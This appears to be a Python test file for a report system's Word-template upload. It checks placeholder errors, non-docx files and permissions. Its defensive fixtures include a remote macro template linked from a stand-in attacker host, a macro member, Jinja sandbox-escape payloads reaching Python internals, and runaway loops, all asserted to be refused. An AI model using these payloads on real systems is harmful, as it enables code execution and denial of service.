"""Templates: down, changed in Word, up again; and those that cannot be filled, refused with the place."""

import io
import zipfile

import docx
import pytest

from server.documents import DocumentError, fill, template_of
from tests.server.office.browser import Browser, words
from tests.server.office.statistics.conftest import ON

WHERE = "/office/reports/annual/template"


async def current(office: Browser) -> "docx.document.Document":
    answer = await office.get("/office/reports/annual/template.docx")
    assert answer.status_code == 200
    return docx.Document(io.BytesIO(answer.content))


def saved(document: "docx.document.Document") -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


async def upload(office: Browser, content: bytes) -> "object":
    await office.get(WHERE)
    return await office.post(WHERE, files={"file": ("ours.docx", content)})


async def test_an_edited_template_is_used_from_then_on_and_can_be_given_up(office: Browser) -> None:
    changed = await current(office)
    changed.add_paragraph("本村特色：{{ N }}个孩子，一个也不能少")
    await office.get(WHERE)

    answer = await office.post(WHERE, files={"file": ("ours.docx", saved(changed))})

    assert answer.status_code == 303
    page = await office.get(f"/office/reports/annual?on={ON}&since=2026-08-01")
    assert "本村特色：60个孩子，一个也不能少" in words(page)
    assert "ours.docx" in words(page)
    await office.get(WHERE)
    await office.post(WHERE, {"reset": "1"})
    page = await office.get(f"/office/reports/annual?on={ON}")
    assert "本村特色" not in words(page)


@pytest.mark.parametrize(
    ("paragraph", "said"),
    [
        ("今年共有{{ chidlren_n }}名", "没有这个占位符：chidlren_n"),
        ("今年共有{{ N }名", "占位符写坏了"),
        ("{% if N %}没有收尾", "占位符写坏了"),
        ("{% if False %}{{ secret_name }}{% endif %}", "没有这个占位符：secret_name"),
    ],
)
async def test_a_broken_or_unknown_placeholder_is_refused_with_its_paragraph(
    office: Browser, paragraph: str, said: str
) -> None:
    changed = await current(office)
    place = len(changed.paragraphs) + 1
    changed.add_paragraph(paragraph)
    await office.get(WHERE)

    answer = await office.post(WHERE, files={"file": ("ours.docx", saved(changed))})

    assert answer.status_code == 422
    assert said in words(answer)
    assert f"第 {place}: " in words(answer) or "没有收尾" in paragraph
    page = await office.get(f"/office/reports/annual?on={ON}")
    assert "自带的模板" in words(page)


@pytest.mark.parametrize(
    "content",
    [b"", b"no document at all", b"PK\x03\x04cut"],
)
async def test_a_file_that_is_no_docx_is_refused(office: Browser, content: bytes) -> None:
    await office.get(WHERE)

    answer = await office.post(WHERE, files={"file": ("ours.docx", content)})

    assert answer.status_code == 422
    assert "不是能用的 .docx" in words(answer)


def with_member(content: bytes, name: str, body: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for it in old.infolist():
            if it.filename != name:
                new.writestr(it, old.read(it.filename))
        new.writestr(name, body)
    return out.getvalue()


def test_macros_and_links_to_files_elsewhere_are_refused() -> None:
    plain = template_of("{{ N }}")
    linked = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )

    for content in (
        with_member(plain, "word/vbaProject.bin", "x"),
        with_member(plain, "word/_rels/settings.xml.rels", linked),
    ):
        with pytest.raises(DocumentError) as refused:
            fill(content, {"N": 1})
        assert [it.code for it in refused.value.faults] == ["file"]


@pytest.mark.parametrize(
    "expression",
    [
        "{{ N.__class__.__mro__ }}",
        "{{ ''.__class__.__subclasses__() }}",
        "{{ cycler.__init__.__globals__ }}",
        "{% for i in range(99999999) %}x{% endfor %}",
    ],
)
def test_a_template_cannot_reach_beyond_its_values(expression: str) -> None:
    with pytest.raises(DocumentError) as refused:
        fill(template_of(expression), {"N": 1})

    assert refused.value.faults[0].code in ("broken", "unknown")


def test_a_template_that_never_ends_is_stopped() -> None:
    endless = "{% for a in range(9999) %}{% for b in range(9999) %}{% for c in range(9999) %}{{ a }}{% endfor %}{% endfor %}{% endfor %}"

    with pytest.raises(DocumentError):
        fill(template_of(endless), {}, seconds=4)


def test_values_are_text_and_never_markup() -> None:
    made = fill(template_of("{{ name }}"), {"name": "谷<b>小满 & {{ N }}"})

    assert [it["text"] for it in made.blocks] == ["谷<b>小满 & {{ N }}"]


async def test_a_supervisor_changes_no_template(township: Browser) -> None:
    assert (await township.get(WHERE)).status_code == 403
